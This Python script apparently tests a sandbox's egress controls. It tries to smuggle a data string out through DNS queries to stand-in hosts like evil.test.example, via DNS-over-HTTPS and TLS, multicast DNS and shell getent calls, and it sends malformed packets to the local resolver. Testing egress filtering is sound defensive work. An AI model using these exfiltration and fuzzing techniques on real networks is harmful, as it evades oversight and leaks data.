"""Carries data out in questions to name servers. Arguments: the data, and a zone to which alone to go."""

import os
import socket
import struct
import sys

from attack import attempt, get, https, query, raw, report, shell, tcp

DATA = sys.argv[1]
KINDS = {
    "a": 1,
    "ns": 2,
    "cname": 5,
    "soa": 6,
    "null": 10,
    "ptr": 12,
    "mx": 15,
    "txt": 16,
    "aaaa": 28,
    "srv": 33,
    "naptr": 35,
    "https": 65,
    "axfr": 252,
    "any": 255,
    "unknown": 65280,
}
ZONES = {"allowed": "api.test.example", "other": "evil.test.example", "wildcard": "x.wild.test.example", "top": "com"}

ONLY = sys.argv[2] if len(sys.argv) > 2 else None

for zone_label, zone in ZONES.items():
    if ONLY not in (None, zone_label):
        continue
    for kind_label, kind in KINDS.items():

        def ask(zone=zone, kind=kind):
            return query(f"{DATA}.{zone}", kind)

        ask.__name__ = f"{zone_label}_{kind_label}"
        attempt(ask)

if ONLY:
    report()
    sys.exit()

for label, server in {
    "google": "8.8.8.8",
    "quad": "9.9.9.9",
    "own": "203.0.113.53",
    "v6": "2001:db8::53",
    "gateway": "100.100.100.1",
}.items():
    for over in ("udp", "tcp"):

        def ask(server=server, over=over):
            return query(f"{DATA}.evil.test.example", 1, server, over)

        ask.__name__ = f"at_{label}_{over}"
        attempt(ask)


@attempt
def dns_over_tls():
    with tcp("203.0.113.53", 853, 5) as sock:
        return raw(sock, DATA)


@attempt
def dns_over_https_elsewhere():
    return https("dns.test.example", get("dns.test.example", f"/dns-query?dns={DATA}"))


@attempt
def dns_over_https_on_an_allowed_host():
    return https(
        "api.test.example",
        get(
            "api.test.example",
            "/dns-query",
            "POST",
            [("Content-Type", "application/dns-message")],
            b"\0\0\1\0\0\1\0\0\0\0\0\0\4evil\4test\7example\0\0\1\0\1",
        ),
    )


@attempt
def multicast_dns():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.sendto(DATA.encode(), ("224.0.0.251", 5353))
        return {"received": sock.recv(1000).hex()}


@attempt
def resolvectl_and_friends():
    return shell(
        f"getent ahosts {DATA}.evil.test.example; getent ahosts {DATA}.nowhere.invalid; python3 -c 'import socket; socket.getaddrinfo(\"{DATA}.other.example\", 1)'"
    )


@attempt
def broken_packets():
    """None may end the answering of others."""
    server = next(line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver"))
    head = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
    packets = [
        b"",
        b"\0",
        b"\0" * 11,
        head,
        head + b"\xc0\x0c\0\1\0\1",
        head + b"\x3f" + b"a" * 10,
        head + (b"\x3f" + b"a" * 63) * 8 + b"\0\0\1\0\1",
        struct.pack(">HHHHHH", 7, 0x8180, 1, 1, 1, 1) + os.urandom(200),
        struct.pack(">HHHHHH", 7, 0x0100, 65535, 65535, 65535, 65535),
        os.urandom(512),
        os.urandom(4096),
        head + b"\1a\0\0\1\0\1" * 200,
        struct.pack(">HHHHHH", 7, 0x2800, 1, 0, 0, 0) + b"\1a\0\0\6\0\1",
    ]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for packet in packets:
            sock.sendto(packet, (server, 53))
    with tcp(server, 53, 5) as sock:
        sock.sendall(b"\xff\xff" + os.urandom(100))
    return query("api.test.example")


report(threads=8)
